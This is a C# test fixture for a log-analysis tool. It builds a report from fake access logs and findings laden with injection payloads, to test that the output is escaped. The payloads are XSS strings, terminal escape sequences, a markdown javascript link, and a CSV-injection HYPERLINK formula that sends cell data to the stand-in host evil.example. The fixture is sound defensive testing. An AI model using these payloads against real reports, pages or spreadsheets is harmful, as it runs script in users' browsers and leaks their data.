using OpsLogTools.Core.Model;
using OpsLogTools.Core.Reports;

namespace OpsLogTools.Core.Tests.Reports;

/// <summary>
/// A report built from hostile log text: a prober whose paths, user agent and referer carry markup, terminal escapes
/// and spreadsheet formulas, in a file whose own name is hostile; plus findings with hostile text given as if piped.
/// The payloads are the usual XSS, terminal-escape and CSV-injection probes.
/// </summary>
internal static class HostileReport
{
    public const string Script = "</script><img src=x onerror=alert(1)>";
    public const string Attribute = "\"><svg onload=alert(document.domain)>";
    public const string Terminal = "\u001b[31mred\u001b[0m\u001b]0;owned\u0007";
    public const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    public const string Markdown = "a|b\n| x | y |\n# heading [link](javascript:alert(1)) `code`";

    public static OpsReport Build()
    {
        var start = new DateTimeOffset(2024, 5, 6, 1, 0, 0, TimeSpan.FromHours(2));
        string path = "/bundle/httpd/access_log" + Script;
        var entries = new List<LogEntry>();
        string[] targets = ["/wp-login.php", "/wp-admin/" + Script, "/xmlrpc.php?" + Attribute, "/wp-content/" + Formula, "/wp-includes/" + Markdown, "/.env" + Terminal];
        for (int i = 0; i < 60; i++)
        {
            entries.Add(new AccessLogEntry
            {
                Path = path,
                LineNumber = i + 1,
                Format = LogFormat.ApacheCombined,
                Timestamp = start.AddSeconds(i * 61),
                StampText = "x",
                ClientIp = "203.0.113.66",
                Method = "GET",
                Target = targets[i % targets.Length],
                Protocol = "HTTP/1.1",
                Status = 404,
                Message = "GET " + targets[i % targets.Length],
                UserAgent = Formula + " " + Terminal + " " + Attribute,
                Referer = "javascript:alert(1)//" + Script,
            });
            entries.Add(new AccessLogEntry
            {
                Path = path,
                LineNumber = i + 1000,
                Format = LogFormat.ApacheCombined,
                Timestamp = start.AddSeconds(i * 61 + 7),
                StampText = "x",
                ClientIp = "198.51.100." + (i % 20 + 1),
                Method = "GET",
                Target = "/",
                Protocol = "HTTP/1.1",
                Status = 200,
                Message = "GET /",
                UserAgent = "Mozilla/5.0",
            });
        }
        entries.Sort((a, b) => a.LineNumber.CompareTo(b.LineNumber));

        var builder = new OpsReportBuilder(new OpsReportOptions { Title = "Report " + Script });
        builder.Analyze(entries);
        builder.Add(new LogAnomaly
        {
            Kind = AnomalyKind.ServiceOutage,
            Path = "/bundle/messages" + Attribute,
            FirstLine = 1,
            LastLine = 2,
            Start = start,
            End = start.AddMinutes(20),
            Service = "httpd" + Script,
            Summary = Markdown + Terminal,
            Evidence = [Script, Attribute, Formula, Markdown, Terminal],
            RelatedPaths = ["/bundle/" + Script],
        });
        builder.Add(new BotActivity
        {
            ClientIp = Script,
            Kind = BotKind.Scanner,
            Intent = BotIntent.Malicious,
            Requests = 3,
            FirstSeen = start,
            LastSeen = start,
            SamplePaths = [Script, Formula],
            UserAgents = [Attribute, Terminal],
            Evidence = [Markdown],
        });
        builder.Add(new UpdateWindowResult
        {
            UpdateStart = start.AddMinutes(-10),
            UpdateEnd = start.AddMinutes(-9),
            Schedule = Formula,
            Verdict = Script + Markdown,
            Notes = [Terminal],
            Run = new UpdateRun { Path = "/bundle/yum.log" + Script, Command = Attribute, ScheduleEvidence = [Formula] },
            IncidentStart = start,
            IncidentEnd = start.AddMinutes(20),
            Relation = UpdateRelation.Before,
            Gap = TimeSpan.FromMinutes(9),
        });
        return builder.Build();
    }
}
